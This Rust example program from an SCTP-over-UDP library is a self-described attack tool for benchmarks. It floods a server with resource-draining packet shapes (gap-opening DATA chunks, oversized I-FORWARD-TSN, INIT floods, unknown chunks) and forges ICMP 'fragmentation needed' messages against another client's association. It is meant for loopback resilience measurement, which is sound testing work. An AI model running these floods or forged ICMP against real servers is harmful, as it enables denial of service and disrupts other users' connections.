//! A hostile peer for measurements: it opens its own association with a braid endpoint (a
//! real handshake over UDP) and then floods one packet shape at a fixed rate, so a verified
//! transfer of another client can be measured next to it (`bench/flood.sh`). Loopback or
//! namespaces only: it is an attack tool.
//!
//! ```sh
//! cargo run --release -p braid-net --example flood -- SERVER SHAPE RATE SECONDS [VICTIM]
//! ```
//!
//! SERVER is the UDP address; the SCTP port is `SCTP_PORT` (default 5001, `braid perf`'s).
//!
//! Shapes (each packet in the attacker's own association unless said otherwise):
//! * `null`: the same packets as `unknown`, to a closed port (the attacker's own cost: the
//!   baseline a flood is compared with);
//! * `unknown`: a 1,200-byte chunk of an unknown type that asks for an ERROR report;
//! * `data-gaps`: one-byte DATA chunks at every other TSN, ordered behind a message that
//!   never comes (each opens a gap the SACKs report, and is held);
//! * `iforward`: I-FORWARD-TSN chunks of 8,000 entries that skip nothing (needs the server's
//!   `--idata on`);
//! * `init`: INITs from the attacker's address (the INIT budgets);
//! * `icmp`: forged ICMP "fragmentation needed" (raw socket, root) quoting a packet from the
//!   server to VICTIM (another client's address:port), with a wrong verification tag.
//!
//! Prints the packets sent and the answers received.

#![allow(missing_docs, clippy::unwrap_used, clippy::expect_used)]

use std::net::{IpAddr, SocketAddr, UdpSocket};
use std::time::{Duration, Instant};

use braid_wire::chunk::{CookieEcho, Data, IForwardTsn, IForwardTsnStream, Init};
use braid_wire::{Chunk, ChunkType, Packet, Param, RawChunk};
use bytes::Bytes;

/// Our SCTP port: one per run, so a run does not restart the previous run's association.
fn local_port() -> u16 {
    40_000 + (std::process::id() % 20_000) as u16
}
const OUR_TAG: u32 = 0x0bad_cafe;
const OUR_TSN: u32 = 1_000;

/// The server's SCTP port.
fn sctp_port() -> u16 {
    std::env::var("SCTP_PORT")
        .ok()
        .and_then(|p| p.parse().ok())
        .unwrap_or(5001)
}

fn packet(tag: u32, chunks: Vec<Chunk>) -> Vec<u8> {
    Packet {
        src_port: local_port(),
        dst_port: sctp_port(),
        verification_tag: tag,
        chunks,
    }
    .to_vec()
    .unwrap()
}

/// INIT, INIT-ACK, COOKIE-ECHO, COOKIE-ACK: the server's tag for our packets.
fn handshake(sock: &UdpSocket, server: SocketAddr, idata: bool) -> u32 {
    let mut params = vec![Param::ForwardTsnSupported];
    if idata {
        params.push(Param::SupportedExtensions(vec![0x40, 0xC2]));
    }
    let init = Chunk::Init(Init {
        initiate_tag: OUR_TAG,
        a_rwnd: 1 << 20,
        outbound_streams: 10,
        inbound_streams: 10,
        initial_tsn: OUR_TSN,
        params,
    });
    sock.send_to(&packet(0, vec![init]), server).unwrap();
    let mut buf = vec![0u8; 65_536];
    let (n, _) = sock.recv_from(&mut buf).expect("no INIT-ACK");
    let p = Packet::decode(&Bytes::copy_from_slice(&buf[..n])).unwrap();
    let Some(Chunk::InitAck(ack)) = p.chunks.first() else {
        panic!("expected INIT-ACK, got {:?}", p.chunks);
    };
    let initiate_tag = ack.initiate_tag;
    let cookie = ack.state_cookie().expect("cookie").clone();
    let echo = Chunk::CookieEcho(CookieEcho { cookie });
    sock.send_to(&packet(initiate_tag, vec![echo]), server)
        .unwrap();
    let (n, _) = sock.recv_from(&mut buf).expect("no COOKIE-ACK");
    let p = Packet::decode(&Bytes::copy_from_slice(&buf[..n])).unwrap();
    assert!(
        matches!(p.chunks.first(), Some(Chunk::CookieAck(_))),
        "expected COOKIE-ACK, got {:?}",
        p.chunks
    );
    initiate_tag
}

/// The Internet checksum (RFC 1071).
fn inet_checksum(b: &[u8]) -> u16 {
    let mut sum = 0u32;
    for c in b.chunks(2) {
        let w = u16::from_be_bytes([c[0], *c.get(1).unwrap_or(&0)]);
        sum += u32::from(w);
    }
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

/// ICMP "fragmentation needed" (type 3 code 4) quoting a UDP datagram `from` -> `to`
/// carrying an SCTP header with a wrong tag.
fn icmp_too_big(from: SocketAddr, to: SocketAddr, mtu: u16) -> Vec<u8> {
    let (IpAddr::V4(src), IpAddr::V4(dst)) = (from.ip(), to.ip()) else {
        panic!("IPv4 only");
    };
    let mut inner = vec![0x45, 0, 0x05, 0xdc, 0, 0, 0x40, 0, 64, 17, 0, 0];
    inner.extend_from_slice(&src.octets());
    inner.extend_from_slice(&dst.octets());
    let ck = inet_checksum(&inner);
    inner[10..12].copy_from_slice(&ck.to_be_bytes());
    inner.extend_from_slice(&from.port().to_be_bytes());
    inner.extend_from_slice(&to.port().to_be_bytes());
    inner.extend_from_slice(&[0x05, 0xc8, 0, 0]); // UDP length 1480, no checksum
    inner.extend_from_slice(&sctp_port().to_be_bytes());
    inner.extend_from_slice(&sctp_port().to_be_bytes());
    inner.extend_from_slice(&0xdead_beefu32.to_be_bytes());
    let mut icmp = vec![3, 4, 0, 0, 0, 0];
    icmp.extend_from_slice(&mtu.to_be_bytes());
    icmp.extend_from_slice(&inner);
    let ck = inet_checksum(&icmp);
    icmp[2..4].copy_from_slice(&ck.to_be_bytes());
    icmp
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    if args.len() < 5 {
        eprintln!("usage: flood SERVER SHAPE RATE SECONDS [VICTIM]");
        std::process::exit(2);
    }
    let server: SocketAddr = args[1].parse().unwrap();
    let shape = args[2].as_str();
    let rate: u64 = args[3].parse().unwrap();
    let secs: f64 = args[4].parse().unwrap();
    let sock = UdpSocket::bind(SocketAddr::new("127.1.0.66".parse().unwrap(), 0)).unwrap();
    sock.set_read_timeout(Some(Duration::from_secs(2))).unwrap();
    let tag = match shape {
        "null" | "init" | "icmp" => 0,
        _ => handshake(&sock, server, shape == "iforward"),
    };
    sock.set_nonblocking(true).unwrap();
    // One packet per shape, built once (`data-gaps` changes its TSN per packet).
    let unknown = packet(
        tag,
        vec![Chunk::Unknown(RawChunk {
            chunk_type: ChunkType(0xbf),
            flags: 0,
            value: Bytes::from(vec![0u8; 1200]),
        })],
    );
    let iforward = packet(
        tag,
        vec![Chunk::IForwardTsn(IForwardTsn {
            new_cum_tsn: OUR_TSN - 1,
            streams: (0..8_000u32)
                .map(|i| IForwardTsnStream {
                    stream_id: 0,
                    unordered: i % 2 == 1,
                    mid: 0,
                })
                .collect(),
        })],
    );
    let init = packet(
        0,
        vec![Chunk::Init(Init {
            initiate_tag: OUR_TAG,
            a_rwnd: 1 << 20,
            outbound_streams: 10,
            inbound_streams: 10,
            initial_tsn: OUR_TSN,
            params: vec![],
        })],
    );
    let raw = (shape == "icmp").then(|| {
        let victim: SocketAddr = args.get(5).expect("icmp needs VICTIM").parse().unwrap();
        let s = socket2::Socket::new(
            socket2::Domain::IPV4,
            socket2::Type::RAW,
            Some(socket2::Protocol::ICMPV4),
        )
        .expect("raw ICMP socket (root)");
        (s, icmp_too_big(server, victim, 1200))
    });
    let null_dst: SocketAddr = "127.1.0.67:9".parse().unwrap();
    // A measurement tool paces by the wall clock; the core never reads it.
    #[allow(clippy::disallowed_methods)]
    let start = Instant::now();
    let (mut sent, mut answers, mut answer_bytes) = (0u64, 0u64, 0u64);
    let mut buf = vec![0u8; 65_536];
    let mut k = 0u32;
    let mut kinds = std::collections::BTreeMap::new();
    while start.elapsed().as_secs_f64() < secs {
        let due = (start.elapsed().as_secs_f64() * rate as f64) as u64;
        while sent < due {
            match shape {
                "null" => {
                    let _ = sock.send_to(&unknown, null_dst);
                }
                "unknown" => {
                    let _ = sock.send_to(&unknown, server);
                }
                "iforward" => {
                    let _ = sock.send_to(&iforward, server);
                }
                "init" => {
                    let _ = sock.send_to(&init, server);
                }
                "data-gaps" => {
                    k = (k + 1) % 8_000;
                    let d = Chunk::Data(Data {
                        tsn: OUR_TSN + 1 + 2 * k,
                        stream_id: 0,
                        // Ordered behind SSN 0, which never comes: held, never delivered.
                        ssn: 1 + k as u16,
                        ppid: 0,
                        unordered: false,
                        beginning: true,
                        ending: true,
                        immediate: false,
                        user_data: Bytes::from_static(b"x"),
                    });
                    let _ = sock.send_to(&packet(tag, vec![d]), server);
                }
                "icmp" => {
                    let (s, p) = raw.as_ref().unwrap();
                    let to = socket2::SockAddr::from(SocketAddr::new(server.ip(), 0));
                    let _ = s.send_to(p, &to);
                }
                other => panic!("unknown shape {other}"),
            }
            sent += 1;
        }
        while let Ok((n, _)) = sock.recv_from(&mut buf) {
            answers += 1;
            answer_bytes += n as u64;
            if let Ok(p) = Packet::decode(&Bytes::copy_from_slice(&buf[..n])) {
                for c in &p.chunks {
                    *kinds.entry(format!("{:?}", c.chunk_type())).or_insert(0u64) += 1;
                }
            }
        }
        std::thread::sleep(Duration::from_micros(500));
    }
    let kinds: Vec<String> = kinds.iter().map(|(k, n)| format!("\"{k}\":{n}")).collect();
    println!(
        "{{\"shape\":\"{shape}\",\"sent\":{sent},\"seconds\":{:.2},\"answers\":{answers},\"answer_bytes\":{answer_bytes},\"answer_chunks\":{{{}}}}}",
        start.elapsed().as_secs_f64(),
        kinds.join(",")
    );
}
